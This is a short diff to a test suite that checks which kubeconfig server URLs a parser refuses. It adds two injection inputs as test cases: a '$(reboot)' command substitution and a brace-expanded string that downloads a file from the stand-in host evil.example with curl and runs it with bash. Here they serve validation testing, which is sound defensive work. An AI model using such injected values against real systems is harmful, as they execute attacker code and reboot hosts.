@@ -303,6 +303,8 @@ describe('what is chosen of a kubeconfig', () => {
     ['', 'no-server'],
     ['http://h:1', 'bad-server'],
     ['https://h/path', 'bad-server'],
+    ['https://$(reboot):6443', 'bad-server'],
+    ['https://a;{curl,-oa,evil.example};{bash,a};b:6443', 'bad-server'],
   ])('the server %j is refused: %s', async (server, problem) => {
     expect(await problemOf(() => serverOf({ server } as Kubeconfig['clusters'][0]))).toEqual([problem, undefined]);
   });
